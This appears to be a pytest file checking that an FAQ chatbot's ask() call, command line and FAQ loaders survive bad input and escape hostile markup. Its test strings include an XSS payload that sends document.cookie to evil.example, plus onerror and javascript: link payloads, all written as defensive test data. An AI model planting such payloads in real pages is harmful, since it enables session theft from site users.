"""Bad input through every door: ``ask()``, the ``faqbot`` command and FAQ source files.

Each bad input must get a clear message (``ValueError`` / exit status 2 with one
line on stderr) or a normal answer or decline: never a traceback, never a hang.
Long text is cut to what the model reads, and the answer says so. The web door
(``/ask`` endpoint and chat box) is tested in ``test_web_bad_input.py``.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from faqbot import Answer, FAQBot, QuestionError
from faqbot.limits import MAX_QUESTION_CHARS as MAX_CHARS
from faqbot.render import markdown as to_markdown
from faqbot.render import plain_text as to_plain_text

ROOT = Path(__file__).resolve().parents[1]
FAQBOT = [sys.executable, "-m", "faqbot"]
HANG_GUARD = 300  # seconds; a guard against hangs, not a timing assertion

MEGABYTE_OF_TEXT = "How long does New Mexico keep my data? " * 27_000  # ~1 MB
HTML_JS = '<script>fetch("http://evil.example/?c="+document.cookie)</script><img src=x onerror=alert(1)> how long is my data kept?'
MARKDOWN = "**how long** is my [data](javascript:alert(1)) ![x](http://evil.example/p.png) `kept`? # <b>"
RTL = "כמה זמן שומרים את המידע שלי? كم من الوقت يحتفظون ببياناتي؟"
BIDI_OVERRIDE = "\u202ehow long is my data kept?\u202c\u2066\u2069"
EMOJI = "🙏🇺🇸👨‍👩‍👧 how long do they keep my data? 😟"
CONTROL = "how long\x00\x01\x07\x1b[31m is my data\x7f\x85 kept?\r\n\x0b\x0c"


def assert_well_formed(a: Answer, bot: FAQBot) -> None:
    """The invariants every Answer keeps, whatever the question."""
    assert isinstance(a, Answer)
    assert a.kind in ("faq", "declined", "smalltalk")
    assert 0.0 <= a.score <= 1.0
    assert a.declined == (a.kind == "declined")
    if a.kind == "faq":
        entry = bot.entry(a.question_number)  # a real FAQ entry ...
        assert a.answer == entry.answer and a.question == entry.question  # ... quoted verbatim
    else:
        assert a.question_number is None and a.question is None
        assert a.answer.strip()
    assert len(a.alternatives) <= 3
    assert all(h.number in bot.corpus.by_number for h in a.alternatives)
    assert len(a.query) <= MAX_CHARS
    # JSON-ready, and encodable as strict UTF-8 (no lone surrogates survive)
    json.dumps(a.to_dict(), ensure_ascii=False).encode("utf-8")
    to_plain_text(a).encode("utf-8")
    to_markdown(a).encode("utf-8")


# --- ask() ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "bad",
    [
        "",
        " ",
        "\t\n\r\x0b\x0c",
        "\u00a0\u2003\u3000\u2028\u2029",  # Unicode spaces, line/paragraph separators
        "\x00" * 1000,  # NUL bytes only
        "\u200b\u200d\ufeff\u2060",  # zero-width characters and a BOM
        "?!...,;:",  # punctuation, no words
        "😀🙏👍",  # emoji only: no words to search for
        " " * 1_000_000,  # a megabyte of spaces
        b"",
        None,
        42,
        4.2,
        ["how long is my data kept?"],
        {"q": "x"},
    ],
    ids=lambda v: repr(v)[:30],
)
def test_ask_refuses_non_questions_with_a_clear_value_error(bot, bad):
    with pytest.raises(ValueError) as info:
        bot.ask(bad)
    assert isinstance(info.value, QuestionError)
    message = str(info.value)
    assert "question" in message.lower() and len(message) < 200  # says what to do, briefly


@pytest.mark.parametrize(
    "question",
    [
        HTML_JS,
        MARKDOWN,
        RTL,
        BIDI_OVERRIDE,
        EMOJI,
        CONTROL,
        "how long is \udcff\udcfe my data kept?",
        b"how long is my data \xff kept?",
    ],
    ids=[
        "html-js",
        "markdown",
        "rtl",
        "bidi-override",
        "emoji",
        "control",
        "lone-surrogates",
        "invalid-utf8-bytes",
    ],
)
def test_hostile_text_gets_a_normal_answer_or_decline(bot, question):
    a = bot.ask(question)
    assert_well_formed(a, bot)
    assert a.notice is None  # nothing was cut


def test_bidi_override_and_control_characters_do_not_stop_the_right_answer(bot):
    assert bot.ask(BIDI_OVERRIDE).question_number == 9
    assert bot.ask("how long is \x00my data\x1b kept?").question_number == 9


def test_user_html_never_reaches_the_markdown_shown_to_people(bot):
    """Any user text the rendered answer shows (the notice) is escaped, never raw HTML."""
    a = bot.ask("<script>alert(1)</script> " + "how long is my data kept? " * 200)
    md = to_markdown(a)
    assert "<script>" not in md and "<img" not in md


def test_a_megabyte_question_is_cut_to_what_the_model_reads_and_says_so(bot):
    a = bot.ask(MEGABYTE_OF_TEXT)
    assert_well_formed(a, bot)
    assert (
        a.notice
        == f"Your question was {len(MEGABYTE_OF_TEXT):,} characters long; only the first {MAX_CHARS:,} were read."
    )
    assert a.notice in to_plain_text(a) and "only the first" in to_markdown(a)


def test_a_megabyte_word_without_spaces_is_cut_too(bot):
    a = bot.ask("x" * 1_000_000)
    assert_well_formed(a, bot)
    assert a.notice and "1,000,000 characters" in a.notice


def test_a_question_after_a_page_of_blank_lines_is_read_not_called_empty(bot):
    a = bot.ask("\n" * 10_000 + "\x00" * 10 + "How long does New Mexico keep my data?")
    assert a.question_number == 9
    assert a.notice is None  # nothing that mattered was cut


@pytest.mark.parametrize(
    "typed, read",
    [
        ("WILL THEY DEPORT MY MOM IF SHE GETS MEDICAID", "will they deport my mom if she gets medicaid"),
        ("¿QUÉ DATOS COMPARTE NUEVO MÉXICO CON ICE?", "¿qué datos comparte nuevo méxico con ice?"),
        ("HOW LONG do they keep it", "HOW LONG do they keep it"),  # capitals for emphasis only
        ("Does the IRS share with ICE and USCIS?", "Does the IRS share with ICE and USCIS?"),
        ("ICE SNAP?", "ICE SNAP?"),  # too short to call shouting: acronyms
    ],
)
def test_a_question_typed_in_capitals_is_read_in_lower_case(typed, read):
    from faqbot.question import prepare_question

    assert prepare_question(typed).text == read


def test_a_shouted_question_gets_the_answer_of_the_same_words_in_lower_case(bot):
    """Every unknown word of a shouted question looked like an acronym: declined at 0.001."""
    shouted = bot.ask("WILL THEY DEPORT MY MOM IF SHE GETS MEDICAID")
    plain = bot.ask("will they deport my mom if she gets medicaid")
    assert shouted.kind == plain.kind == "faq" and shouted.question_number == plain.question_number


def test_bad_history_turns_do_not_break_an_answer(bot):
    history = [
        None,
        42,
        {"role": "user"},
        {"content": "\x00"},
        "",
        "x" * 100_000,
        {"role": "assistant", "content": ["x"]},
    ]
    a = bot.ask("how long do they keep it?", history=history)
    assert_well_formed(a, bot)


@settings(
    max_examples=80,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    database=None,
)
@given(
    st.one_of(
        st.text(max_size=300),
        st.text(
            alphabet=st.characters(codec="utf-8", categories=["Cc", "Cf", "Zs", "Zl", "Zp", "So", "Mn"]),
            max_size=200,
        ),
        st.text(alphabet=st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF), max_size=20).map(
            lambda s: "data " + s
        ),
        st.binary(max_size=200),
        st.builds(lambda a, n: a * n, st.text(min_size=1, max_size=5), st.integers(1, 3000)),
    )
)
@pytest.mark.slow
def test_any_string_gives_a_well_formed_answer_or_value_error(bot, text):
    try:
        a = bot.ask(text)
    except ValueError as exc:
        assert isinstance(exc, QuestionError) and str(exc)
        return
    assert_well_formed(a, bot)


# --- the faqbot command -------------------------------------------------------------


def run_cli(*args: str | bytes, env: dict | None = None, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    full_env = dict(os.environ, HF_HUB_OFFLINE="1", **(env or {}))
    return subprocess.run([*FAQBOT, *args], cwd=cwd, capture_output=True, timeout=HANG_GUARD, env=full_env)


def assert_one_line_error(r: subprocess.CompletedProcess, status: int = 2) -> str:
    err = r.stderr.decode("utf-8", errors="replace").strip()
    assert r.returncode == status, err
    assert "Traceback" not in err and err.startswith("faqbot: ") and len(err.splitlines()) == 1, err
    return err


@pytest.mark.parametrize(
    "bad",
    ["\t\n", "\x01\x02\x1b", "?!", b"\xff\xfe\xfd", "\u200b\ufeff"],
    ids=["ws", "ctrl", "punct", "bad-utf8-only", "zero-width"],
)
def test_cli_refuses_empty_questions_before_loading_the_model(bad):
    err = assert_one_line_error(run_cli("ask", bad))
    assert "question" in err.lower()


def test_cli_invalid_utf8_control_and_html_in_one_argument_are_answered():
    r = run_cli("ask", b"how long is my data \xff\xfe kept?\x1b[2J<script>alert(1)</script>", "--json")
    assert r.returncode == 0 and b"Traceback" not in r.stderr, r.stderr
    data = json.loads(r.stdout)
    assert data["kind"] in ("faq", "declined")
    data["query"].encode("utf-8")  # undecodable bytes were replaced, no lone surrogates left
    assert "\x1b" not in data["query"] and data["query"].startswith("how long is my data ")


def test_cli_long_argument_is_truncated_with_a_notice():
    """Linux refuses a single argument over 128 KiB (E2BIG), so 120,000 characters is the most argv carries."""
    r = run_cli("ask", "how long is my data kept? " * 4_600)
    assert r.returncode == 0 and b"Traceback" not in r.stderr, r.stderr
    assert "only the first 1,000 were read" in r.stdout.decode()


def test_cli_rtl_and_emoji_on_a_terminal_that_is_not_utf8():
    """A non-UTF-8 stdout (PYTHONIOENCODING=ascii) gets '?' for what it cannot show, not a traceback."""
    r = run_cli("ask", RTL + " " + EMOJI, env={"PYTHONIOENCODING": "ascii"})
    assert r.returncode == 0 and b"Traceback" not in r.stderr, r.stderr
    r.stdout.decode("ascii")  # strictly ASCII
    assert r.stdout.strip()


def test_cli_reader_that_goes_away_is_not_a_traceback():
    """`faqbot ask Q --json | head -c1`: a closed pipe ends the command quietly."""
    proc = subprocess.Popen(
        [*FAQBOT, "ask", "how long is my data kept?", "--json"],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=dict(os.environ, HF_HUB_OFFLINE="1"),
    )
    proc.stdout.close()  # the reader is gone before anything is written
    _, err = proc.communicate(timeout=HANG_GUARD)
    assert b"Traceback" not in err and b"BrokenPipe" not in err, err


# --- FAQ source files -------------------------------------------------------------


def test_cli_bad_corpus_is_one_line_naming_the_file(tmp_path):
    path = tmp_path / "faq.txt"
    path.write_bytes(b"1. Question?\nAnswer \xff.\n")
    err = assert_one_line_error(run_cli("ask", "anything", "--corpus", str(path)))
    assert "faq.txt, line 2" in err and "UTF-8" in err


def test_cli_corpus_that_is_a_folder_or_missing(tmp_path):
    err = assert_one_line_error(run_cli("ask", "anything", "--corpus", str(tmp_path)))
    assert str(tmp_path) in err
    err = assert_one_line_error(run_cli("ask", "anything", "--corpus", str(tmp_path / "nope.txt")))
    assert "nope.txt" in err and "no such FAQ file" in err


def test_hostile_corpus_text_is_escaped_when_rendered(tmp_path, embedder):
    """A FAQ whose answers carry HTML/JS and Markdown is quoted as text, never as markup."""
    src = tmp_path / "evil.jsonl"
    rows = [
        {
            "question": "What is the <b>office</b> address?",
            "answer": '<script>alert("x")</script> 1 Main St. [click](javascript:alert(1))',
        },
        {
            "question": "When are you open?",
            "answer": "<img src=x onerror=alert(1)> Monday to Friday, 9 to 5.",
        },
    ]
    src.write_text("\n".join(json.dumps(r) for r in rows), encoding="utf-8")
    bot = FAQBot.from_corpus(src, in_memory=True)
    a = bot.ask("what is the office address?")
    assert a.question_number == 1 and a.answer == rows[0]["answer"]  # data stays verbatim
    md = to_markdown(a)
    assert "<script>" not in md and "<b>" not in md and "](javascript:" not in md
    assert "&lt;script&gt;" in md
